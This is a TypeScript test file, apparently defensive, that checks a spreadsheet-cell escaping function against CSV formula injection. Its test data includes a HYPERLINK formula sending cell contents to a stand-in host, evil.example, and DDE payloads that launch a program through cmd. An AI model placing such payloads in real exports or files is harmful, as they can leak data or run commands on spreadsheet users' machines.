import { parse } from 'csv-parse/sync';
import { csvText, givenCell, plainCell } from './spreadsheet-cell.rules';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1;"Klikk")',
  '+47 38 07 50 00',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＠SUM(1)',
  '－1＋1',
  '-',
  '=',
];
const PLAIN = [
  'Åmli',
  '12',
  '-12',
  '-12,5',
  '+3.25',
  '1 234,5',
  "'s-Hertogenbosch",
  'a=b',
  'x@amli.example',
  '',
  '2016-11-23',
];

describe('spreadsheet-cell: no cell of ours is calculated (S8)', () => {
  it.each(FORMULAS)('%j is shown as it stands', (text) => {
    expect(plainCell(text)).toBe(`'${text}`);
  });

  it.each(PLAIN)('%j stays as it is', (text) => {
    expect(plainCell(text)).toBe(text);
  });

  it('exporting and importing again changes nothing', () => {
    for (const text of [...FORMULAS, ...PLAIN, "'=1", "''=1"]) expect(givenCell(plainCell(text))).toBe(text);
  });

  it('CSV holds every cell in its place, whatever is in it', () => {
    const rows = [[...FORMULAS], [...PLAIN], ['semi;kolon', 'hermete"ikn', 'linje\r\nskift', 'tab\tulator']];
    const read = parse(csvText(rows), { bom: true, delimiter: ';', relax_column_count: true }) as string[][];
    expect(read.map((cells) => cells.map(givenCell))).toEqual(rows);
    for (const cell of read.flat()) expect(cell).not.toMatch(/^[\s\u200b\0]*[=@＝＠]|^[\t\r\n]/);
  });
});
